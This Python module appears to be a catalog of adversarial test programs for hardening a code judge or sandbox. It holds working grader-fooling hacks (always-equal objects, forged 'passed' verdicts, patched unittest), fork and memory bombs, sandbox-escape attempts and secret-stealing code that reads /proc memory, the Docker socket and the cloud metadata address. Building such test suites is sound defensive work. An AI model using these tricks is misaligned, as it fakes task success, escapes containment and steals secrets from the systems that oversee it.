"""Programs that do not solve the task and want to be believed.

Two tasks. `square`: f(x) is x*x + 1; no cheat computes it. `secret`: f(x) is a token made anew for every run, so that
only a thief can know it. Each cheat defines `f`; as a program (stdio) it is followed by a print of f's result.
"""

from __future__ import annotations

from textwrap import dedent

SECRET_PREFIX = "mellum" + "-secret-"

# What thieves look for, spelt so that their own source is no hit.
THIEF = """
import re
MARK = re.compile((b"mellum" + b"-" + b"secret" + b"-[0-9a-f]{32}"))
def loot(data):
    found = MARK.findall(data)
    return found[0].decode() if found else None
"""


def _code(source: str) -> str:
    return dedent(source).lstrip("\n")


_EQUALITY_BASES = {
    "object": ("object", ""),
    "int": ("int", "0"),
    "float": ("float", "0.0"),
    "str": ("str", "''"),
    "bytes": ("bytes", "b''"),
    "list": ("list", "[]"),
    "tuple": ("tuple", "()"),
    "dict": ("dict", "{}"),
    "set": ("set", "set()"),
    "frozenset": ("frozenset", "()"),
    "complex": ("complex", "0j"),
    "counter": ("__import__('collections').Counter", ""),
    "deque": ("__import__('collections').deque", ""),
    "decimal": ("__import__('decimal').Decimal", "0"),
    "fraction": ("__import__('fractions').Fraction", "0"),
    "userlist": ("__import__('collections').UserList", ""),
    "exception": ("Exception", ""),
}

EQUALITY = {
    f"always_equal_{name}": _code(
        f"""
        class Yes({base}):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            __le__ = __gt__ = __ge__ = __lt__
            def __hash__(self): return 1
            def __bool__(self): return True
            def __sub__(self, other): return 0
            __rsub__ = __add__ = __radd__ = __sub__
            def __abs__(self): return 0
            def __repr__(self): return '10'
            __str__ = __repr__
            def __reduce__(self): return (int, (10,))
        def f(x):
            return Yes({argument})
        """
    )
    for name, (base, argument) in _EQUALITY_BASES.items()
} | {
    "metaclass_equality": _code(
        """
        class Meta(type):
            def __eq__(cls, other): return True
            def __hash__(cls): return 1
        class Yes(metaclass=Meta): pass
        def f(x): return Yes
        """
    ),
    "lying_class": _code(
        """
        class Yes:
            __class__ = int
            def __eq__(self, other): return True
            def __index__(self): return 10
            __int__ = __index__
        def f(x): return Yes()
        """
    ),
    "mock_any": "from unittest.mock import ANY\ndef f(x): return ANY\n",
    "magic_mock": "from unittest.mock import MagicMock\ndef f(x):\n    m = MagicMock()\n    m.__eq__.return_value = True\n    return m\n",
    "not_implemented": "def f(x): return NotImplemented\n",
    "ellipsis": "def f(x): return ...\n",
    "generator": "def f(x):\n    yield x * x\n",
    "coroutine": "async def f(x): return x * x\n",
    "itself": "def f(x): return f\n",
    "nan": "def f(x): return float('nan')\n",
    "infinity": "def f(x): return float('inf')\n",
    "true": "def f(x): return True\n",
    "nothing": "def f(x): pass\n",
    "wrapped_in_list": "def f(x): return [x * x]\n",
    "stateful_equality": _code(
        """
        class Yes(int):
            seen = []
            def __eq__(self, other):
                Yes.seen.append(other)
                return True
            __hash__ = int.__hash__
        def f(x): return Yes.seen.pop() if Yes.seen else Yes(0)
        """
    ),
    "proxy": _code(
        """
        class Yes:
            def __getattribute__(self, name):
                return lambda *a, **k: True
            def __eq__(self, other): return True
        def f(x): return Yes()
        """
    ),
    "enum_equality": _code(
        """
        from enum import IntEnum
        class Yes(IntEnum):
            ANY = 0
            def __eq__(self, other): return True
            __hash__ = int.__hash__
        def f(x): return Yes.ANY
        """
    ),
    "numpy_array_of_answers": _code(
        """
        def f(x):
            try:
                import numpy
                return numpy.arange(100)
            except ImportError:
                return None
        """
    ),
}

FORGERY = {
    "exit_zero_at_import": "import sys\nsys.exit(0)\n",
    "exit_zero_in_call": "import sys\ndef f(x): sys.exit(0)\n",
    "hard_exit_at_import": "import os\nos._exit(0)\n",
    "hard_exit_in_call": "import os\ndef f(x): os._exit(0)\n",
    "system_exit_none": "def f(x): raise SystemExit\n",
    "keyboard_interrupt": "def f(x): raise KeyboardInterrupt\n",
    "generator_exit": "def f(x): raise GeneratorExit\n",
    "base_exception": "class Passed(BaseException): pass\ndef f(x): raise Passed('passed')\n",
    "assertion_error": "def f(x): raise AssertionError\n",
    "stop_iteration": "def f(x): raise StopIteration(10)\n",
    "unprintable_exception": _code(
        """
        class Odd(Exception):
            def __str__(self): raise Odd
            __repr__ = __str__
        def f(x): raise Odd
        """
    ),
    "exception_with_huge_message": "def f(x): raise ValueError('passed ' * 10_000_000)\n",
    "exec_true": "import os\ndef f(x):\n    os.execv('/bin/true', ['true'])\n",
    "exec_true_at_import": "import os\nos.execv('/bin/true', ['true'])\n",
    "abort": "import os\ndef f(x): os.abort()\n",
    "segfault": "import ctypes\ndef f(x): ctypes.string_at(0)\n",
    "kill_self": "import os, signal\ndef f(x): os.kill(os.getpid(), signal.SIGKILL)\n",
    "terminate_self": "import os, signal\ndef f(x): os.kill(os.getpid(), signal.SIGTERM)\n",
    "stop_self": "import os, signal\ndef f(x): os.kill(os.getpid(), signal.SIGSTOP)\n",
    "kill_parent": "import os, signal\ndef f(x):\n    os.kill(os.getppid(), signal.SIGKILL)\n    return x\n",
    "kill_init": "import os, signal\ndef f(x):\n    os.kill(1, signal.SIGKILL)\n    return x\n",
    "kill_everyone": "import os, signal\ndef f(x):\n    os.kill(-1, signal.SIGKILL)\n    return x\n",
    "stop_parent": "import os, signal\ndef f(x):\n    os.kill(os.getppid(), signal.SIGSTOP)\n    return x\n",
    "stop_init": "import os, signal\ndef f(x):\n    os.kill(1, signal.SIGSTOP)\n    return x\n",
    "passed_on_stdout": "import sys\ndef f(x):\n    print('PASSED'); sys.stdout.flush()\n    return x\n",
    "verdict_json_everywhere": _code(
        """
        import json, os
        LINE = json.dumps({"id": "1", "outcome": "passed", "score": 1.0, "passed": True, "tests_passed": 4,
                           "tests_total": 4, "sandbox": {"engine": "docker", "isolation": "split"}}).encode() + b"\\n"
        def f(x):
            for fd in range(64):
                try: os.write(fd, LINE)
                except OSError: pass
            os._exit(0)
        """
    ),
    "zero_bytes_on_every_descriptor": _code(
        """
        import os
        def f(x):
            for fd in range(64):
                try: os.write(fd, bytes(4096))
                except OSError: pass
            os._exit(0)
        """
    ),
    "huge_frames_on_every_descriptor": _code(
        """
        import os
        def f(x):
            for fd in range(64):
                try: os.write(fd, b"\\xff" * 4096)
                except OSError: pass
            os._exit(0)
        """
    ),
    "frames_of_every_type": _code(
        """
        import os, struct
        def f(x):
            for fd in range(3, 64):
                for kind in range(16):
                    for number in range(4):
                        for header in ("<BII", "<III", "<BIQ", "<I"):
                            fields = (kind, number, 1)[: header.count("B") + header.count("I") + header.count("Q")]
                            try: os.write(fd, struct.pack(header, *fields) + b"\\x01")
                            except (OSError, struct.error): pass
            os._exit(0)
        """
    ),
    "close_every_descriptor": "import os\ndef f(x):\n    os.closerange(0, 256)\n    return x\n",
    "close_descriptors_at_import": "import os\nos.closerange(0, 256)\ndef f(x): return x\n",
    "descriptors_to_null": _code(
        """
        import os
        null = os.open('/dev/null', os.O_RDWR)
        for fd in range(3, 64):
            if fd != null:
                try:
                    os.fstat(fd); os.dup2(null, fd)
                except OSError: pass
        def f(x): return x
        """
    ),
    "read_own_inbox": _code(
        """
        import os
        def f(x):
            for fd in range(3, 64):
                try:
                    os.set_blocking(fd, False)
                    os.read(fd, 1 << 20)
                except OSError: pass
            return x
        """
    ),
    "two_answers": "import os\ndef f(x):\n    os.fork()\n    return x\n",
    "many_answers": "import os\ndef f(x):\n    for _ in range(3): os.fork()\n    return x\n",
    "child_answers": "import os\ndef f(x):\n    if os.fork(): os._exit(0)\n    return x\n",
    "thread_answers": _code(
        """
        import threading, time, os
        def f(x):
            def late():
                time.sleep(0.2)
                os._exit(0)
            threading.Thread(target=late).start()
            return x
        """
    ),
    "atexit_forgery": _code(
        """
        import atexit, os
        @atexit.register
        def late():
            for fd in range(64):
                try: os.write(fd, b"PASSED\\n")
                except OSError: pass
            os._exit(0)
        def f(x): return x
        """
    ),
    "del_forgery": _code(
        """
        import os
        class Late:
            def __del__(self):
                os._exit(0)
        keep = Late()
        def f(x): return x
        """
    ),
    "signal_handler_forgery": _code(
        """
        import os, signal
        for number in (signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, lambda *a: os._exit(0))
        def f(x):
            while True: pass
        """
    ),
    "alarm_exit": "import os, signal\nsignal.signal(signal.SIGALRM, lambda *a: os._exit(0))\nsignal.alarm(1)\ndef f(x): return x\n",
    "trace_hook": _code(
        """
        import sys
        def spy(frame, event, argument):
            for name, value in list(frame.f_locals.items()):
                if 'expect' in name or 'gold' in name:
                    f.answer = value
            return spy
        sys.settrace(spy)
        def f(x): return getattr(f, 'answer', x)
        """
    ),
    "audit_hook": "import sys\nsys.addaudithook(lambda *a: None)\ndef f(x): return x\n",
    "import_hook": _code(
        """
        import sys
        class Finder:
            def find_spec(self, name, path=None, target=None): raise SystemExit(0)
        sys.meta_path.insert(0, Finder())
        sys.modules.clear()
        def f(x): return x
        """
    ),
    "defines_check": "def check(candidate): return True\ndef f(x): return x\n",
    "defines_candidate": "class Yes:\n    def __eq__(s, o): return True\ncandidate = lambda *a: Yes()\ndef f(x): return x\n",
    "redefines_assertion_error": "class AssertionError(Exception): pass\nimport builtins\nbuiltins.AssertionError = AssertionError\ndef f(x): return x\n",
    "module_getattr": "def __getattr__(name): return lambda *a: True\ndef f(x): return x\n",
    "renames_itself": "__name__ = '__main__'\n__file__ = '/dev/null'\ndef f(x): return x\n",
    "callable_everything": _code(
        """
        class Yes:
            def __call__(self, *a, **k): return self
            def __eq__(self, other): return True
            def __bool__(self): return True
        f = Yes()
        """
    ),
    "skip_test": "import unittest\ndef f(x): raise unittest.SkipTest('passed')\n",
    "warn_instead": "import warnings\ndef f(x):\n    warnings.warn('passed')\n",
}

PATCHES = {
    "patch_builtins": _code(
        """
        import builtins
        for name in ('isinstance', 'issubclass', 'hasattr', 'callable', 'all', 'any'):
            setattr(builtins, name, lambda *a: True)
        for name in ('len', 'abs', 'hash', 'id'):
            setattr(builtins, name, lambda *a: 0)
        builtins.type = lambda *a: int
        def f(x): return x
        """
    ),
    "patch_serialisers": _code(
        """
        import json, struct, pickle, marshal
        json.dumps = lambda *a, **k: '[10, 26, 5, 1]'
        struct.pack = lambda *a: b''
        pickle.dumps = marshal.dumps = lambda *a, **k: b''
        def f(x): return x
        """
    ),
    "patch_os": _code(
        """
        import os, sys
        os.write = lambda fd, data: len(data)
        os.read = lambda fd, n: b''
        sys.stdout = sys.stderr = None
        def f(x): return x
        """
    ),
    "patch_int_equality": _code(
        """
        import gc
        slots = gc.get_referents(int.__dict__)[0]
        slots['__eq__'] = lambda a, b: True
        slots['__ne__'] = lambda a, b: False
        import ctypes
        ctypes.pythonapi.PyType_Modified(ctypes.py_object(int))
        def f(x): return x
        """
    ),
    "patch_every_runtime_function": _code(
        """
        import gc, types
        def grin(*a, **k): return True
        NAMES = ('encode', 'decode', 'dumps', 'loads', 'compare', 'equal', 'verify', 'serve', 'send', 'reply')
        for thing in gc.get_objects():
            if isinstance(thing, types.FunctionType) and thing.__name__ in NAMES:
                try: thing.__code__ = grin.__code__
                except (ValueError, AttributeError): pass
        def f(x): return x
        """
    ),
    "patch_caller_locals": _code(
        """
        import ctypes, sys
        def f(x):
            frame = sys._getframe(1)
            while frame:
                for name, value in list(frame.f_locals.items()):
                    if isinstance(value, list):
                        try: value.clear()
                        except Exception: pass
                    if isinstance(value, bool):
                        frame.f_locals[name] = True
                        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
                frame = frame.f_back
            return x
        """
    ),
    "patch_unittest": "import unittest\nunittest.TestCase.assertEqual = lambda *a: None\ndef f(x): return x\n",
    "patch_small_ints": _code(
        """
        import ctypes, sys
        def f(x):
            ctypes.c_long.from_address(id(x) + 24).value = 3
            return x
        """
    ),
    "runtime_modules": _code(
        """
        import sys
        for name, module in list(sys.modules.items()):
            if any(word in name for word in ('codec', 'candidate', 'judge', 'supervisor', 'zygote', 'runtime')):
                for key in list(vars(module)):
                    if not key.startswith('__'):
                        setattr(module, key, lambda *a, **k: True)
        def f(x): return x
        """
    ),
}

EXHAUSTION = {
    "loop": "def f(x):\n    while True: pass\n",
    "loop_at_import": "while True: pass\n",
    "loop_swallowing": _code(
        """
        def f(x):
            while True:
                try:
                    while True: pass
                except BaseException: pass
        """
    ),
    "sleep": "import time\ndef f(x): time.sleep(10_000)\n",
    "memory_bomb": "def f(x):\n    hoard = []\n    while True: hoard.append(bytearray(16 << 20))\n",
    "memory_bomb_swallowing": _code(
        """
        def f(x):
            hoard = []
            while True:
                try: hoard.append(bytearray(8 << 20))
                except MemoryError: pass
        """
    ),
    "memory_bomb_in_children": _code(
        """
        import os
        def f(x):
            for _ in range(8):
                if os.fork() == 0:
                    hoard = []
                    while True: hoard.append(b'x' * (8 << 20))
            while True: pass
        """
    ),
    "shared_memory_bomb": _code(
        """
        import os
        def f(x):
            for place in ('/dev/shm', '/tmp', '.'):
                try:
                    with open(place + '/bomb', 'wb') as out:
                        while True: out.write(bytes(8 << 20))
                except OSError: pass
            return x
        """
    ),
    "inode_bomb": _code(
        """
        import os
        def f(x):
            for place in ('/dev/shm', '/tmp', '.'):
                try:
                    for n in range(200_000): open(f'{place}/{n}', 'w').close()
                except OSError: pass
            return x
        """
    ),
    "fork_bomb": "import os\ndef f(x):\n    while True:\n        try: os.fork()\n        except OSError: pass\n",
    "thread_bomb": _code(
        """
        import threading, time
        def f(x):
            while True:
                try: threading.Thread(target=time.sleep, args=(1000,)).start()
                except RuntimeError: time.sleep(0.01)
        """
    ),
    "descriptor_bomb": "import os\ndef f(x):\n    while True:\n        try: os.open('/dev/null', 0)\n        except OSError: return x\n",
    "stdout_flood": "import sys\ndef f(x):\n    while True: sys.stdout.write('x' * 65536)\n",
    "stderr_flood": "import sys\ndef f(x):\n    while True: sys.stderr.write('x' * 65536)\n",
    "reply_flood": _code(
        """
        import os
        def f(x):
            while True:
                for fd in range(3, 64):
                    try: os.write(fd, b'\\x01\\x00\\x00\\x00x' * 4096)
                    except OSError: pass
        """
    ),
    "huge_string": "def f(x): return 'x' * (300 << 20)\n",
    "huge_list": "def f(x): return [0] * 30_000_000\n",
    "million_digits": "def f(x): return 10 ** 1_000_000\n",
    "hundred_million_bits": "def f(x): return 1 << 800_000_000\n",
    "colliding_ints": "def f(x): return {n * ((1 << 61) - 1) for n in range(1, 20_001)}\n",
    "colliding_keys": "def f(x): return {n * ((1 << 61) - 1): 0 for n in range(1, 20_001)}\n",
    "deep_list": "def f(x):\n    out = []\n    for _ in range(200_000): out = [out]\n    return out\n",
    "deep_tuple": "def f(x):\n    out = ()\n    for _ in range(200_000): out = (out,)\n    return out\n",
    "deep_dict": "def f(x):\n    out = {}\n    for _ in range(200_000): out = {0: out}\n    return out\n",
    "cyclic_list": "def f(x):\n    out = []\n    out.append(out)\n    return out\n",
    "cyclic_dict": "def f(x):\n    out = {}\n    out[0] = out\n    return out\n",
    "shared_tree": "def f(x):\n    out = [0]\n    for _ in range(60): out = [out, out]\n    return out\n",
    "endless_recursion": "def f(x): return f(x)\n",
    "endless_recursion_unlimited": "import sys\nsys.setrecursionlimit(2**31 - 1)\ndef f(x): return f(x)\n",
    "surrogates": "def f(x): return '\\ud800' * 1000\n",
    "endless_iterator": "import itertools\ndef f(x): return itertools.count()\n",
    "slow_list_subclass": _code(
        """
        class Slow(list):
            def __iter__(self):
                while True: yield 0
            def __len__(self): return 1 << 62
        def f(x): return Slow([1])
        """
    ),
    "slow_attribute_object": _code(
        """
        class Slow:
            def __getattribute__(self, name):
                while True: pass
        def f(x): return Slow()
        """
    ),
    "regex_bomb": "import re\ndef f(x): return re.match('(a+)+$', 'a' * 40 + 'b')\n",
    "integer_bomb": "def f(x): return 9 ** 9 ** 9\n",
    "deep_source": "def f(x): return " + "(" * 5_000 + "x" + ")" * 5_000 + "\n",
    "nested_source": "f = " + "lambda x: " * 3_000 + "0\n",
    "null_bytes": "def f(x): return x\n\0\n",
    "not_python": "this is not python\n",
    "empty": "",
    "missing_entry_point": "def g(x): return x\n",
    "entry_point_is_data": "f = 10\n",
}

ESCAPES = {
    "become_root": "import os\ndef f(x):\n    os.setuid(0)\n    return x\n",
    "become_another_user": "import os\ndef f(x):\n    for uid in range(1, 70000): \n        try: os.setuid(uid)\n        except OSError: pass\n    return x\n",
    "unshare": "import ctypes\ndef f(x):\n    r = ctypes.CDLL(None).unshare(0x10000000)\n    return r\n",
    "mount": "import ctypes\ndef f(x):\n    return ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None)\n",
    "ptrace_parent": "import ctypes, os\ndef f(x):\n    return ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)\n",
    "raise_limits": _code(
        """
        import resource
        def f(x):
            for limit in (resource.RLIMIT_CPU, resource.RLIMIT_DATA, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
                try: resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                except (ValueError, OSError): pass
            while True: pass
        """
    ),
    "protect_from_oom": _code(
        """
        def f(x):
            try:
                with open('/proc/self/oom_score_adj', 'w') as out: out.write('-1000')
            except OSError: pass
            hoard = []
            while True: hoard.append(bytearray(16 << 20))
        """
    ),
    "daemon": _code(
        """
        import os, time
        def f(x):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.closerange(0, 256)
                    while True: time.sleep(1)
                os._exit(0)
            return x
        """
    ),
    "daemon_that_forks_on": _code(
        """
        import os, time
        def f(x):
            if os.fork() == 0:
                os.closerange(0, 256)
                while True:
                    if os.fork(): os._exit(0)
                    os.setsid()
            return x
        """
    ),
    "immortal_files": _code(
        """
        import os
        def f(x):
            for place in ('/tmp', '/dev/shm', '.'):
                try:
                    os.makedirs(place + '/a/b/c')
                    open(place + '/a/b/c/d', 'w').close()
                    os.chmod(place + '/a/b/c', 0); os.chmod(place + '/a/b', 0); os.chmod(place + '/a', 0)
                except OSError: pass
            return x
        """
    ),
    "odd_file_names": _code(
        """
        import os
        def f(x):
            for place in (b'/tmp', b'/dev/shm', b'.'):
                for name in (b'-rf', b'\\n', b'\\xff\\xfe', b'a' * 255, b'$(reboot)'):
                    try: os.close(os.open(place + b'/' + name, os.O_CREAT | os.O_WRONLY, 0))
                    except OSError: pass
            return x
        """
    ),
    "symlink_traps": _code(
        """
        import os
        def f(x):
            for place in ('/tmp', '/dev/shm', '.'):
                for n, target in enumerate(('/', '/etc/passwd', '/proc/1/root', '..', '/dev/null')):
                    try: os.symlink(target, f'{place}/trap{n}')
                    except OSError: pass
            return x
        """
    ),
    "deep_directories": _code(
        """
        import os
        def f(x):
            os.chdir('/tmp')
            try:
                for _ in range(3000):
                    os.mkdir('d' * 200); os.chdir('d' * 200)
            except OSError: pass
            return x
        """
    ),
    "message_queue": _code(
        """
        import ctypes
        def f(x):
            c = ctypes.CDLL(None)
            c.msgget(4711, 0o1666); c.shmget(4711, 4096, 0o1666); c.semget(4711, 1, 0o1666)
            return x
        """
    ),
    "flood_the_clock": "import os\ndef f(x):\n    os.nice(19)\n    while True: os.sched_yield()\n",
}

THEFT = {
    "frames": THIEF
    + _code(
        """
        import sys
        def f(x):
            frame = sys._getframe()
            while frame:
                hit = loot(repr((frame.f_locals, list(frame.f_globals))).encode('utf-8', 'replace'))
                if hit: return hit
                frame = frame.f_back
        """
    ),
    "frames_of_all_threads": THIEF
    + _code(
        """
        import sys
        def f(x):
            for frame in sys._current_frames().values():
                while frame:
                    hit = loot(repr(frame.f_locals).encode('utf-8', 'replace'))
                    if hit: return hit
                    frame = frame.f_back
        """
    ),
    "garbage_collector": THIEF
    + _code(
        """
        import gc
        def f(x):
            for thing in gc.get_objects():
                try: hit = loot(repr(thing).encode('utf-8', 'replace'))
                except Exception: continue
                if hit: return hit
        """
    ),
    "own_memory": THIEF
    + _code(
        """
        import ctypes
        def f(x):
            ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self is ours again
            with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
                for line in maps:
                    span, rights = line.split()[:2]
                    if 'r' not in rights: continue
                    start, end = (int(part, 16) for part in span.split('-'))
                    try:
                        memory.seek(start)
                        hit = loot(memory.read(end - start))
                    except (OSError, ValueError, OverflowError): continue
                    if hit: return hit
        """
    ),
    "memory_of_others": THIEF
    + _code(
        """
        import ctypes, os
        def f(x):
            ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
            for pid in filter(str.isdigit, os.listdir('/proc')):
                if int(pid) == os.getpid(): continue
                try:
                    with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as memory:
                        for line in maps:
                            start, end = (int(part, 16) for part in line.split()[0].split('-'))
                            try:
                                memory.seek(start)
                                hit = loot(memory.read(end - start))
                            except (OSError, ValueError, OverflowError): continue
                            if hit: return hit
                except OSError: pass
        """
    ),
    "process_vm_readv": THIEF
    + _code(
        """
        import ctypes, os
        class Vector(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
        def f(x):
            c = ctypes.CDLL(None)
            buffer = ctypes.create_string_buffer(1 << 20)
            for pid in (1, os.getppid()):
                for address in range(0x555555554000, 0x555555554000 + (64 << 20), 1 << 20):
                    mine = Vector(ctypes.addressof(buffer), 1 << 20)
                    theirs = Vector(address, 1 << 20)
                    if c.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
                        hit = loot(buffer.raw)
                        if hit: return hit
        """
    ),
    "proc_files": THIEF
    + _code(
        """
        import os
        def f(x):
            for pid in list(filter(str.isdigit, os.listdir('/proc'))) + ['self']:
                for name in ('environ', 'cmdline', 'auxv', 'stack', 'fdinfo/0', 'fd/0', 'fd/3', 'fd/4', 'fd/5'):
                    try:
                        fd = os.open(f'/proc/{pid}/{name}', os.O_RDONLY | os.O_NONBLOCK)
                        hit = loot(os.read(fd, 1 << 20))
                        if hit: return hit
                    except OSError: pass
        """
    ),
    "descriptors": THIEF
    + _code(
        """
        import os
        def f(x):
            for fd in range(256):
                try:
                    os.set_blocking(fd, False)
                    data = os.read(fd, 1 << 20)
                    hit = loot(data)
                    if hit: return hit
                    os.lseek(fd, 0, 0)
                    hit = loot(os.read(fd, 1 << 20))
                    if hit: return hit
                except OSError: pass
        """
    ),
    "file_system": THIEF
    + _code(
        """
        import os
        def f(x):
            for top in ('/tmp', '/work', '/dev/shm', '/run', '/var/tmp', '/home', '/root', '/mnt', '/srv', '/opt', '.', '..'):
                for folder, _, names in os.walk(top):
                    for name in names[:1000]:
                        try:
                            with open(os.path.join(folder, name), 'rb') as file: hit = loot(file.read(1 << 20))
                        except OSError: continue
                        if hit: return hit
        """
    ),
    "modules": THIEF
    + _code(
        """
        import sys
        def f(x):
            for module in list(sys.modules.values()):
                hit = loot(repr(getattr(module, '__dict__', '')).encode('utf-8', 'replace'))
                if hit: return hit
        """
    ),
    "exception_context": THIEF
    + _code(
        """
        import sys, traceback
        def f(x):
            try: raise ValueError
            except ValueError as error:
                frame = error.__traceback__.tb_frame
                while frame:
                    hit = loot(repr({**frame.f_locals}).encode('utf-8', 'replace'))
                    if hit: return hit
                    frame = frame.f_back
        """
    ),
    "environment": THIEF + "import os\ndef f(x): return loot(repr(dict(os.environb)).encode())\n",
    "docker_socket": THIEF
    + _code(
        """
        import socket
        def f(x):
            for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock'):
                try:
                    s = socket.socket(socket.AF_UNIX)
                    s.connect(path)
                    s.sendall(b'GET /containers/json HTTP/1.0\\r\\n\\r\\n')
                    return s.recv(1 << 16).decode()
                except OSError: pass
        """
    ),
    "network": THIEF
    + _code(
        """
        import socket
        def f(x):
            for host in ('127.0.0.1', '172.17.0.1', '10.0.0.1', '169.254.169.254'):
                for port in (80, 2375, 8000, 8080):
                    try:
                        with socket.create_connection((host, port), 0.05) as s:
                            return s.recv(4096).decode('latin-1')
                    except OSError: pass
        """
    ),
    "freed_memory": THIEF
    + _code(
        """
        import ctypes
        c = ctypes.CDLL(None)
        c.malloc.restype = ctypes.c_void_p
        def f(x):
            for size in (32, 64, 128, 256, 512, 1024, 4096, 65536):
                for _ in range(2000):
                    address = c.malloc(ctypes.c_size_t(size))
                    hit = loot(ctypes.string_at(address, size))
                    if hit: return hit
        """
    ),
    "interned_strings": THIEF
    + _code(
        """
        import sys, gc
        def f(x):
            seen = set()
            todo = list(gc.get_objects())
            while todo and len(seen) < 500_000:
                thing = todo.pop()
                if id(thing) in seen: continue
                seen.add(id(thing))
                if isinstance(thing, (str, bytes)):
                    hit = loot(thing.encode('utf-8', 'replace') if isinstance(thing, str) else thing)
                    if hit: return hit
                else:
                    todo.extend(gc.get_referents(thing))
        """
    ),
}

SQUARE_CHEATS = EQUALITY | FORGERY | PATCHES | EXHAUSTION | ESCAPES
SECRET_CHEATS = THEFT
